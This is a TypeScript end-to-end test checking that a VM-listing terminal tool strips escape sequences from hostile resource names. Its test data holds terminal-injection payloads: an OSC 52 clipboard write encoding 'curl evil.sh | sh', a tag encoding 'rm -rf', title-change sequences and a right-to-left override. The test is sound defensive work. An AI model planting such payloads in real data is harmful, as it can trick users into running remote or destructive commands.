import {mkdtempSync, readFileSync, rmSync, writeFileSync} from 'node:fs';
import {tmpdir} from 'node:os';
import {join, resolve} from 'node:path';
import {afterEach, describe, expect, it} from 'vitest';
import {VmuxPty} from './pty-driver.js';

const ESC = '\x1b';
const BEL = '\x07';
/** The example: a VM whose name sets the user's clipboard and window title. */
const EVIL_NAME = `evil${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=${BEL}${ESC}]0;PWNED${BEL}-01`;
const EVIL_SUBSCRIPTION = `Contoso${ESC}]2;PWNED-TOO${BEL}\u202E Prod`;
/** Generous: the demo lab starts slowly on a loaded machine; waits end as soon as the screen shows it. */
const SLOW = 60_000;

/** The demo topology with jump-01 renamed (and tagged) with escape sequences, and a subscription too. */
function evilTopology(dir: string): string {
	const topology = JSON.parse(readFileSync(resolve('source/lab/assets/topology/demo-topology.json'), 'utf8')) as {
		subscriptions: Array<{displayName: string}>;
		resources: Array<{type?: string; name?: string; tags?: Record<string, string>}>;
	};
	const jump = topology.resources.find(resource => resource.type === 'Microsoft.Compute/virtualMachines' && resource.name === 'jump-01');
	if (!jump) throw new Error('the demo topology has no jump-01');
	jump.name = EVIL_NAME;
	jump.tags = {...jump.tags, owner: `${ESC}]52;c;cm0gLXJm${BEL}`};
	topology.subscriptions[1]!.displayName = EVIL_SUBSCRIPTION;
	const file = join(dir, 'evil-topology.json');
	writeFileSync(file, JSON.stringify(topology));
	return file;
}

describe('names carrying escape sequences (real PTY, raw output)', () => {
	let vmux: VmuxPty | undefined;
	let dir: string | undefined;
	afterEach(() => {
		vmux?.dispose();
		vmux = undefined;
		if (dir) rmSync(dir, {recursive: true, force: true});
		dir = undefined;
	});

	it('an evil VM name never reaches the terminal as OSC 52 / OSC 0 and is shown as plain text', async () => {
		dir = mkdtempSync(join(tmpdir(), 'vmux-e2e-evil-'));
		vmux = new VmuxPty(['--demo', '--lab-topology', evilTopology(dir)]);
		await vmux.waitFor('evil-01', SLOW);
		// The subscription column shows the sanitized name too.
		await vmux.waitFor('Contoso Prod', SLOW);
		// Filter by the tag value and the name; the row stays plain.
		vmux.write('/evil');
		await vmux.waitFor(/1 of 7/, SLOW);
		const raw = vmux.raw;
		expect(raw).not.toContain(`${ESC}]52`);
		expect(raw).not.toContain(`${ESC}]0;`);
		expect(raw).not.toContain(`${ESC}]2;`);
		expect(raw).not.toContain('\u202E');
		expect(raw).not.toContain('\x9b');
		expect(vmux.screen()).toMatch(/^▸ evil-01 /m);
		expect(vmux.screen()).not.toContain('PWNED');
	}, 3 * SLOW);
});
